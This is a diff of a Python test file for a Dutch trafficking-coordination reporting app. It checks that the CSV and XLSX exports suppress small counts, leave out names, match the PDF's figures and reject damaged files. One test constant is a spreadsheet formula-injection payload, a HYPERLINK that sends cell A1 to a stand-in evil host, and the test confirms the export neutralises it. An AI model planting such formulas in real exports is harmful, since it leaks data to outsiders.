@@ -8,7 +8,7 @@ import io
 import re
 import zipfile
 from dataclasses import dataclass
-from datetime import date, datetime, timedelta
+from datetime import UTC, date, datetime
 
 import pytest
 from django.urls import reverse
@@ -20,10 +20,10 @@ from ketenregie.selectors import cijfers
 from ketenregie.selectors.cijfers import Periode, Telling
 from mensenhandel.models import ToegangsLog
 from mensenhandel.onderdrukking import AANVULLEND, KLEIN, Cel, onderdrukken
-from rapportage import export, inhoud, pdf, tasks
+from rapportage import export, inhoud, opslag
 from rapportage.models import Rapport, Status
 from tests.conftest import maak_gebruiker
-from tests.rapportage.hulp import KLEINE_PDF, aanvragen, klaar_maken
+from tests.rapportage.hulp import aanvragen, klaar_maken, met_de_taak_maken
 from tests.signalen.factories import SignaalFactory
 from tests.zorgcoordinatie.factories import TrajectFactory
 
@@ -36,6 +36,8 @@ KNELPUNT_TITEL = '=HYPERLINK("https://kwaad.example/?"&A1;"Klik")'
 ACTIE = "@SUM(1+1) bespreken met het COA"
 BIJZONDERHEDEN = "-2 meldingen minder dan verwacht.\n+31 20 ... is het nummer van de regio."
 VERBORGEN = (987_654, 123_457, 555_551)  # true values of hidden cells in the crafted tables
+# What the task passes when it writes the files beside the PDF.
+MAAKMOMENT = {"nu": datetime(2026, 7, 1, 6, 0, tzinfo=UTC), "pdf_sha256": "ab" * 32}
 
 
 def url(naam: str, rapport: Rapport) -> str:
@@ -105,9 +107,11 @@ def gegevens(gebruikers, plaatsen):
 
 
 @pytest.fixture
-def rapport(gebruikers, gegevens) -> Rapport:
+def rapport(gebruikers, gegevens, monkeypatch) -> Rapport:
+    """The half-year's report, made by the task: its figures are the files stored with it."""
     halfjaar = gegevens["halfjaar"]
-    return klaar_maken(aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year))
+    gevraagd = aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year)
+    return met_de_taak_maken(gevraagd, monkeypatch)
 
 
 # --- Reading the files back -----------------------------------------------------------------------
@@ -156,17 +160,23 @@ def xml_tekst(inhoud_bestand: bytes) -> str:
 def test_csv_cijfers_een_voor_een(client_als, rapport, gegevens, plaatsen):
     antwoord = client_als("kr").get(url("export_csv", rapport))
     assert antwoord.status_code == 200
-    uitleg, tabellen = csv_lezen(antwoord.content)
+    uitleg, tabellen = csv_lezen(antwoord.getvalue())
 
     halfjaar = gegevens["halfjaar"]
     assert uitleg["Regio"] == "Gooi en Vechtstreek"
     assert uitleg["Periode"].startswith(f"{_halfjaar_soort(halfjaar).split('_')[0].capitalize()} halfjaar")
     assert uitleg["Versie"] == "1"
-    assert uitleg["Vastgesteld"] == "Nee"
-    assert uitleg["PDF gemaakt op"] == inhoud.datum_tekst(timezone.localdate())
+    assert "Vastgesteld" not in uitleg  # made with the PDF, before any vaststellen
+    gemaakt = timezone.localtime(rapport.klaar_op)
+    assert uitleg["Gemaakt op"].startswith(f"{inhoud.datum_tekst(gemaakt.date())} om ")
+    assert uitleg["Gemaakt op"].endswith(", samen met de PDF")
     assert uitleg["Controlesom van de PDF (SHA-256)"] == rapport.sha256
+    assert uitleg["Peildatum"] == (
+        f"{inhoud.datum_tekst(timezone.localdate())} (de periode was bij het maken nog niet voorbij: "
+        "een tussenstand)"
+    )
     assert uitleg["Kleine aantallen"].startswith("Aantallen van 1 tot 5 staan er als ‘<5’")
-    assert "opnieuw berekend" in uitleg["Hoe de cijfers zijn berekend"]
+    assert "het zijn de cijfers van de PDF" in uitleg["Hoe de cijfers zijn berekend"]
 
     samenvatting = rijen(tabellen["Samenvatting"])
     assert samenvatting["Onderwerp"][:2] == [
@@ -226,9 +236,11 @@ def test_csv_cijfers_een_voor_een(client_als, rapport, gegevens, plaatsen):
     for kolom in ("Aantal", "Met terugkoppeling", "Dagen tot terugkoppeling (mediaan)", "Wacht te lang"):
         assert kolom in kop
     assert kop[-5:] == [
-        f"Terugkoppeling bij het downloaden: {t}"
+        f"Terugkoppeling op het moment van maken: {t}"
         for t in ("verstuurd", "ontvangen", "opgepakt", "afgewezen", "afgerond")
     ]
+    # Waiting is counted on the reference date, as in the PDF; no second "waiting" column.
+    assert [k for k in kop if k.startswith("Wacht")] == ["Wacht te lang", "Wacht op de peildatum"]
     assert verwijzingen["Totaal"][kop.index("Aantal")] == "0"
     assert verwijzingen["Totaal"][kop.index("Dagen tot terugkoppeling (mediaan)")] == ""  # no feedback yet
 
@@ -249,7 +261,7 @@ def test_csv_cijfers_een_voor_een(client_als, rapport, gegevens, plaatsen):
 def test_csv_volgt_de_verzameling(client_als, rapport):
     """Every count of the gathering's lists appears as is, whatever the crafted dataset holds."""
     c = inhoud.verzamelen(rapport, vandaag=timezone.localdate())
-    _, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).content)
+    _, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).getvalue())
     for titel, tellingen in [
         ("Signalen per vorm van uitbuiting", c["signalen"].per_vorm),
         ("Signalen per bron", c["signalen"].per_bron),
@@ -286,7 +298,7 @@ def _getal(tekst: str) -> int | float | None:
 def test_xlsx_bladen_getallen_en_opmaak(client_als, rapport):
     antwoord = client_als("kr").get(url("export_xlsx", rapport))
     assert antwoord.status_code == 200
-    boek = xlsx_lezen(antwoord.content)
+    boek = xlsx_lezen(antwoord.getvalue())
 
     assert boek.sheetnames[0] == "Toelichting"
     assert all(len(naam) <= 31 for naam in boek.sheetnames)
@@ -296,7 +308,7 @@ def test_xlsx_bladen_getallen_en_opmaak(client_als, rapport):
     assert uitleg["Regio"] == "Gooi en Vechtstreek"
     assert uitleg["Versie"] == 1
     assert uitleg["Kleine aantallen"].startswith("Aantallen van 1 tot 5")
-    assert uitleg["Vastgesteld"] == "Nee"
+    assert uitleg["Controlesom van de PDF (SHA-256)"] == rapport.sha256
     # The list of tables links to each sheet.
     links = [c.hyperlink.location for c in boek["Toelichting"]["B"] if c.hyperlink]
     assert len(links) == len(boek.sheetnames) - 1
@@ -345,7 +357,7 @@ def test_bestandsnamen_en_kopregels(client_als, rapport, gegevens):
             f'attachment; filename="rapportage-gooi-en-vechtstreek-{periode}-v1-cijfers.{extensie}"'
         )
         assert "no-store" in antwoord["Cache-Control"]
-        assert antwoord["Content-Length"] == str(len(antwoord.content))
+        assert antwoord["Content-Length"] == str(len(antwoord.getvalue()))
 
 
 # --- Suppression, names, injection ----------------------------------------------------------------
@@ -385,15 +397,15 @@ def test_een_verborgen_waarde_komt_nooit_in_het_bestand(rapport):
     }
     assert verborgen_echt  # the crafted table does hide something
 
-    tekst_csv = export.csv_maken(context).decode("utf-8-sig")
-    _, tabellen = csv_lezen(export.csv_maken(context))
+    tekst_csv = export.csv_maken(context, **MAAKMOMENT).decode("utf-8-sig")
+    _, tabellen = csv_lezen(export.csv_maken(context, **MAAKMOMENT))
     proef = rijen(tabellen["Proef per gemeente"])
     assert proef["Hilversum"] == ["<5", "40", "x"]
     assert proef["Huizen"] == ["x", "50", "77"]
     assert proef["Regio (precies)"] == [str(VERBORGEN[0] + VERBORGEN[1]), "90", str(sum(VERBORGEN[:2]) + 90)]
     assert rijen(tabellen["Proef cijfers"])["Een"][0] == "<5"
 
-    xlsx = export.xlsx_maken(context)
+    xlsx = export.xlsx_maken(context, **MAAKMOMENT)
     xml = xml_tekst(xlsx)
     for waarde in VERBORGEN[:1] + VERBORGEN[2:]:  # the hidden values that are not part of a region total
         assert str(waarde) not in tekst_csv and str(waarde) not in xml
@@ -410,8 +422,8 @@ def test_een_verborgen_waarde_komt_nooit_in_het_bestand(rapport):
 
 
 def test_geen_namen_in_de_bestanden(client_als, rapport):
-    csv_tekst = client_als("kr").get(url("export_csv", rapport)).content.decode("utf-8-sig")
-    xml = xml_tekst(client_als("kr").get(url("export_xlsx", rapport)).content)
+    csv_tekst = client_als("kr").get(url("export_csv", rapport)).getvalue().decode("utf-8-sig")
+    xml = xml_tekst(client_als("kr").get(url("export_xlsx", rapport)).getvalue())
     for naam in (NAAM_SLACHTOFFER, NAAM_INBRENGER, NAAM_EIGENAAR, "Al opgelost knelpunt"):
         assert naam not in csv_tekst and naam not in xml
     # The ketenregie's own texts are there.
@@ -420,12 +432,12 @@ def test_geen_namen_in_de_bestanden(client_als, rapport):
 
 
 def test_formules_worden_onschadelijk_gemaakt(client_als, rapport):
-    _, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).content)
+    _, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).getvalue())
     assert tabellen["Open knelpunten"][1][0] == "'" + KNELPUNT_TITEL
     assert tabellen["Acties bij de open knelpunten"][1][:2] == ["'" + KNELPUNT_TITEL, "'" + ACTIE]
     assert tabellen["Bijzonderheden"][1][1] == "'" + BIJZONDERHEDEN
 
-    boek = xlsx_lezen(client_als("kr").get(url("export_xlsx", rapport)).content)
+    boek = xlsx_lezen(client_als("kr").get(url("export_xlsx", rapport)).getvalue())
     titel = boek["Open knelpunten"]["A4"]
     assert titel.value == "'" + KNELPUNT_TITEL and titel.data_type == "s"
     assert boek["Bijzonderheden"]["B4"].value == "'" + BIJZONDERHEDEN
@@ -457,7 +469,7 @@ def test_stuurtekens_en_heel_lange_tekst_breken_de_xlsx_niet(rapport):
     context["bijzonderheden"] = [
         inhoud.Bijzonderhedentekst("Eerste halfjaar 2025", "Met\x0bstuurteken\x1f. " + lang)
     ]
-    boek = xlsx_lezen(export.xlsx_maken(context))
+    boek = xlsx_lezen(export.xlsx_maken(context, **MAAKMOMENT))
     waarde = boek["Bijzonderheden"]["B4"].value
     assert waarde.startswith("Metstuurteken. ") and waarde.endswith(export.INGEKORT)
     assert len(waarde) == 32_767
@@ -516,7 +528,7 @@ def test_een_nieuw_onderdeel_van_een_bekende_vorm_komt_er_vanzelf_in(rapport):
     context = inhoud.verzamelen(rapport)
     context["opvang_nieuw"] = _Nieuw(7, 42.5, [Telling("a", "Soort A", 3), Telling("b", "Soort B", 4)])
     context["opvang_lijst"] = [Telling("a", "Soort A", 3)]
-    _, tabellen = csv_lezen(export.csv_maken(context))
+    _, tabellen = csv_lezen(export.csv_maken(context, **MAAKMOMENT))
     assert rijen(tabellen["Opvang nieuw"]) == {
         "Onderwerp": ["Waarde"],
         "Totaal": ["7"],
@@ -589,7 +601,7 @@ def test_bladnamen_zijn_geldig_en_uniek():
 
 
 def test_dezelfde_cijfers_als_de_pdf(client_als, gebruikers, gegevens, monkeypatch):
-    """Made by the task and exported afterwards: every table is the one the PDF was made from."""
+    """Made by the task from the gathering the PDF was made from; a download gathers nothing."""
     gebruikt: list[dict] = []
     echt = inhoud.verzamelen
 
@@ -598,36 +610,88 @@ def test_dezelfde_cijfers_als_de_pdf(client_als, gebruikers, gegevens, monkeypat
         return gebruikt[-1]
 
     monkeypatch.setattr(inhoud, "verzamelen", verzamelen)
-    monkeypatch.setattr(pdf, "rapport_pdf", lambda context, voortgang=None: KLEINE_PDF)
     halfjaar = gegevens["halfjaar"]
-    rapport = aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year)
-    assert tasks.rapport_maken.apply(args=[rapport.pk]).get() == "klaar"
-    assert client_als("kr").get(url("export_xlsx", rapport)).status_code == 200
-    bij_maken, bij_export = gebruikt
-    assert [(t.titel, t.inhoud) for t in export.tabellen(bij_maken)] == [
-        (t.titel, t.inhoud) for t in export.tabellen(bij_export)
-    ]
-
-
-def test_cijfers_met_de_dag_van_maken(client_als, gebruikers):
-    """A report made while its period was running is exported with the same reference date."""
-    rapport = klaar_maken(aanvragen(gebruikers["kr"], soort="eerste_halfjaar", jaar=2025))
-    gemaakt = datetime(2025, 5, 1, 9, 30, tzinfo=timezone.get_current_timezone())
-    Rapport.objects.filter(pk=rapport.pk).update(gestart_op=gemaakt, klaar_op=gemaakt + timedelta(seconds=20))
-    uitleg, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).content)
-    assert uitleg["PDF gemaakt op"] == "1 mei 2025"
-    assert uitleg["Peildatum"].startswith(
-        "1 mei 2025 (de periode was bij het maken van de PDF nog niet voorbij"
+    rapport = met_de_taak_maken(
+        aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year), monkeypatch
     )
-    assert rijen(tabellen["Zorgcoördinatie: trajecten"])["Peildatum"] == ["1-5-2025"]
+    gedownload = client_als("kr").get(url("export_csv", rapport)).getvalue()
+    assert len(gebruikt) == 1
+    verwacht = export.csv_maken(gebruikt[0], nu=rapport.klaar_op, pdf_sha256=rapport.sha256)
+    assert csv_lezen(gedownload)[1] == csv_lezen(verwacht)[1]
+    assert opslag.sha256_van(gedownload) == rapport.csv_sha256
 
 
-def test_vastgesteld_staat_in_de_toelichting(client_als, rapport, gebruikers):
+def _registratie_wijzigen(gebruikers, plaatsen, halfjaar: Periode) -> None:
+    """After the report was made: more signals, a knelpunt solved and a new one, the
+    bijzonderheden rewritten, a referral answered."""
+    for _ in range(4):
+        SignaalFactory(door=gebruikers["af"])
+    Knelpunt.objects.filter(titel=KNELPUNT_TITEL).update(status="opgelost")
+    Knelpunt.objects.create(
+        regio=plaatsen["gv"],
+        thema="overig",
+        titel="Later ingebracht knelpunt",
+        omschrijving="Na het maken.",
+        ingebracht_door="Gemeente",
+        datum=timezone.localdate(),
+        vastgelegd_door=gebruikers["kr"],
+    )
+    Bijzonderheden.objects.filter(jaar=halfjaar.van.year, helft=halfjaar.helft).update(
+        tekst="Herschreven na het maken."
+    )
+
+
+@pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
+def test_de_cijfers_veranderen_niet_meer_na_het_maken(
+    client_als, rapport, gebruikers, plaatsen, gegevens, naam
+):
+    """The files are the PDF's figures, whatever changes in the registration afterwards."""
+    client = client_als("kr")
+    eerst = client.get(url(naam, rapport)).getvalue()
+    _registratie_wijzigen(gebruikers, plaatsen, gegevens["halfjaar"])
+    daarna = client.get(url(naam, rapport)).getvalue()
+    assert daarna == eerst
+    assert opslag.sha256_van(daarna) == getattr(rapport, f"{naam.removeprefix('export_')}_sha256")
+
+
+def test_na_een_wijziging_heeft_alleen_een_nieuwe_versie_de_nieuwe_cijfers(
+    client_als, rapport, gebruikers, plaatsen, gegevens, monkeypatch
+):
+    """The test above can fail: the same changes do show in a version made after them."""
+    _registratie_wijzigen(gebruikers, plaatsen, gegevens["halfjaar"])
+    halfjaar = gegevens["halfjaar"]
+    nieuw = met_de_taak_maken(
+        aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year), monkeypatch
+    )
+    client = client_als("kr")
+    _, oud = csv_lezen(client.get(url("export_csv", rapport)).getvalue())
+    _, later = csv_lezen(client.get(url("export_csv", nieuw)).getvalue())
+    assert rijen(oud["Signalen"])["Signalen geregistreerd"] == ["10"]
+    assert rijen(later["Signalen"])["Signalen geregistreerd"] == ["14"]
+    assert [r[0] for r in oud["Open knelpunten"][1:]] == ["'" + KNELPUNT_TITEL]
+    assert [r[0] for r in later["Open knelpunten"][1:]] == ["Later ingebracht knelpunt"]
+    assert oud["Bijzonderheden"][1][1] == "'" + BIJZONDERHEDEN
+    assert later["Bijzonderheden"][1][1] == "Herschreven na het maken."
+
+
+def test_een_voorbije_periode_heeft_haar_einde_als_peildatum(client_als, gebruikers, monkeypatch):
+    rapport = met_de_taak_maken(aanvragen(gebruikers["kr"], soort="eerste_halfjaar", jaar=2025), monkeypatch)
+    uitleg, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).getvalue())
+    assert uitleg["Peildatum"] == "30 juni 2025"
+    assert rijen(tabellen["Zorgcoördinatie: trajecten"])["Peildatum"] == ["30-6-2025"]
+
+
+def test_vastgesteld_in_de_bestandsnaam_en_het_bestand_blijft_gelijk(client_als, rapport, gebruikers):
     from rapportage import services
 
+    client = client_als("kr")
+    voor = client.get(url("export_csv", rapport)).getvalue()
     services.rapport_vaststellen(door=gebruikers["kr"], rapport=rapport)
-    uitleg, _ = csv_lezen(client_als("kr").get(url("export_csv", rapport)).content)
-    assert uitleg["Vastgesteld"].startswith("Ja, op ")
+    antwoord = client.get(url("export_csv", rapport))
+    assert antwoord["Content-Disposition"].endswith('-v1-vastgesteld-cijfers.csv"')
+    assert antwoord.getvalue() == voor
+    pdf_antwoord = client.get(url("downloaden", rapport))
+    assert pdf_antwoord["Content-Disposition"].endswith('-v1-vastgesteld.pdf"')
 
 
 # --- The access log, the page, and who -------------------------------------------------------------
@@ -669,14 +733,49 @@ def test_nog_niet_klaar_geeft_een_melding(client_als, gebruikers, naam, status):
     assert not ToegangsLog.objects.filter(actie=ToegangsLog.Actie.EXPORTEREN).exists()
 
 
-def test_een_onbekend_onderdeel_geeft_een_melding_en_geen_500(client_als, rapport, monkeypatch):
+def test_cijfers_die_niet_te_maken_waren_geven_een_melding_en_geen_500(
+    client_als, gebruikers, gegevens, monkeypatch
+):
+    """A part of the gathering the export does not know: the PDF is made, the figures not."""
     echt = inhoud.verzamelen
     monkeypatch.setattr(inhoud, "verzamelen", lambda *a, **k: {**echt(*a, **k), "nieuw": _Vreemd(1)})
-    antwoord = client_als("kr").get(url("export_csv", rapport), follow=True)
+    halfjaar = gegevens["halfjaar"]
+    rapport = met_de_taak_maken(
+        aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year), monkeypatch
+    )
+    assert rapport.status == Status.KLAAR and not rapport.heeft_cijfers
+    client = client_als("kr")
+    pagina = client.get(url("rapport", rapport)).content.decode()
+    assert "konden niet als bestand worden gemaakt" in pagina
+    assert url("export_csv", rapport) not in pagina and url("export_xlsx", rapport) not in pagina
+    assert url("downloaden", rapport) in pagina
+
+    for naam, soort in (("export_csv", "CSV"), ("export_xlsx", "XLSX")):
+        antwoord = client.get(url(naam, rapport), follow=True)
+        assert antwoord.redirect_chain == [(url("rapport", rapport), 302)]
+        assert "De PDF is wel te downloaden." in antwoord.content.decode()
+        regel = ToegangsLog.objects.filter(scherm=f"rapportage:{naam}").get()
+        assert (regel.uitkomst, regel.toelichting) == (
+            ToegangsLog.Uitkomst.MISLUKT,
+            f"{soort} versie 1: niet bewaard",
+        )
+    assert client.get(url("downloaden", rapport)).status_code == 200
+
+
+@pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
+def test_een_beschadigd_cijferbestand_wordt_niet_gegeven(client_als, rapport, naam):
+    pad = opslag.pad(opslag.naam_voor(rapport.uuid, naam.removeprefix("export_")))
+    pad.write_bytes(pad.read_bytes() + b"veranderd")
+    antwoord = client_als("kr").get(url(naam, rapport), follow=True)
     assert antwoord.redirect_chain == [(url("rapport", rapport), 302)]
-    assert "De cijfers konden niet als bestand worden gemaakt." in antwoord.content.decode()
+    assert "ontbreekt of is beschadigd" in antwoord.content.decode()
     regel = ToegangsLog.objects.get(actie=ToegangsLog.Actie.EXPORTEREN)
     assert regel.uitkomst == ToegangsLog.Uitkomst.MISLUKT
+    assert regel.toelichting.endswith("klopt niet met de controlesom")
+    pad.unlink()
+    assert (
+        "ontbreekt of is beschadigd" in client_als("kr").get(url(naam, rapport), follow=True).content.decode()
+    )
 
 
 @pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
@@ -702,7 +801,7 @@ def test_de_pagina_toont_de_exports_alleen_als_de_rapportage_klaar_is(client_als
     klaar_maken(rapport)
     html = client_als("kr").get(url("rapport", rapport)).content.decode()
     assert f'href="{url("export_xlsx", rapport)}"' in html and f'href="{url("export_csv", rapport)}"' in html
-    assert "opnieuw berekend" in html
+    assert "samen met de PDF gemaakt" in html
 
 
 def test_een_export_kost_een_vast_aantal_queries(
